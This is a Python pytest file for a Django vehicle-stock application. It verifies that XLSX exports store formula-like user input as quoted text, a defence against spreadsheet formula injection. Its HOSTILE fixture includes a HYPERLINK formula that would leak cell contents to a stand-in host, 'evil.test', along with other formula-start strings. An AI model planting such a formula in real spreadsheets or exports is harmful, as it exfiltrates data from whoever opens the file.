"""The XLSX exports write what people typed as text, never as a formula (issue 11)."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from tests.accounts.factories import PhysicalSiteFactory, UserFactory
from tests.vehicles.factories import VehicleFactory
from vehicles.stock.exports import xlsx_value

pytestmark = pytest.mark.django_db

HOSTILE = {
    "model": '=HYPERLINK("http://evil.test/?leak="&A1,"Clio")',
    "brand": "+33 6 12 34 56 78",
    "version": "-2+3",
    "registration": "@SUM(1+1)",
}


@pytest.fixture
def client_in(client):
    site = PhysicalSiteFactory()
    VehicleFactory(physical_site=site, internal_number="INJ-1", **HOSTILE)
    VehicleFactory(physical_site=site, internal_number="PLAIN-1", model="Clio")
    user = UserFactory(
        group_type="chef-des-ventes", rights=["access_vn"], points_of_sale=[site.point_of_sale]
    )
    client.force_login(user)
    return client


def test_stock_export_writes_formula_like_text_as_string_cells(client_in):
    response = client_in.get(
        "/vehicules/export.xlsx?sort=number&cols=number,brand,model,version,registration,"
        "internal_number"
    )
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    rows = {row[header.index("N° interne")].value: row for row in sheet.iter_rows(min_row=2)}
    hostile = rows["INJ-1"]
    for field, label in [
        ("model", "Modèle"),
        ("brand", "Marque"),
        ("version", "Version"),
        ("registration", "Immatriculation"),
    ]:
        cell = hostile[header.index(label)]
        assert (cell.value, cell.data_type) == (HOSTILE[field], "s"), field
        assert cell.quotePrefix, field  # Excel keeps it text when the cell is edited
    plain = rows["PLAIN-1"][header.index("Modèle")]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Clio", "s", False)
    numbers = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" for cell in numbers)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1"])
def test_xlsx_value_marks_every_formula_start_as_text(text):
    sheet = Workbook(write_only=True).create_sheet()
    cell = xlsx_value(sheet, text)
    assert (cell.value, cell.data_type) == (text, "s")


@pytest.mark.parametrize("value", ["Clio", "", 12, None])
def test_xlsx_value_leaves_ordinary_values_alone(value):
    sheet = Workbook(write_only=True).create_sheet()
    assert xlsx_value(sheet, value) == value
